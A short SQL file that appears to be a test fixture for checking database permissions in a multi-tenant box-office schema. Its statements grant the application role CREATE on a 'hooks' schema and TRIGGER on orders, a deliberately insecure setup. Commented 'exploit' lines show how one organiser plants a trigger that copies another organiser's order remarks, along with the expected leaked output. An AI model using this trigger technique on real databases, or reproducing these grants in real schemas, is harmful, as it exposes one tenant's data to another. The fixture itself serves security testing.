-- With TRIGGER on orders and a schema to create in, the application attaches a trigger that copies what
-- other organisers write.
-- about: orders, hooks, hf_boxoffice_app
-- as: hf_boxoffice_app
-- exploit: SET box.organizer = 'north';
-- exploit: CREATE TABLE hooks.loot (remark text);
-- exploit: CREATE FUNCTION hooks.grab() RETURNS trigger LANGUAGE plpgsql AS
-- exploit:   $f$ BEGIN INSERT INTO hooks.loot VALUES (NEW.remark); RETURN NEW; END $f$;
-- exploit: CREATE TRIGGER grab AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION hooks.grab();
-- exploit: SET box.organizer = 'road';
-- exploit: INSERT INTO orders VALUES ('road', 63, 61, 'cart', 5, 'Road-' || 'secret wish');
-- exploit: SET box.organizer = 'north';
-- exploit: SELECT remark FROM hooks.loot;
-- shows: Road-secret wish
-- Organisers with the large plan get hooks of their own on new orders.
CREATE SCHEMA hooks;
GRANT USAGE, CREATE ON SCHEMA hooks TO hf_boxoffice_app;
GRANT TRIGGER ON orders TO hf_boxoffice_app;
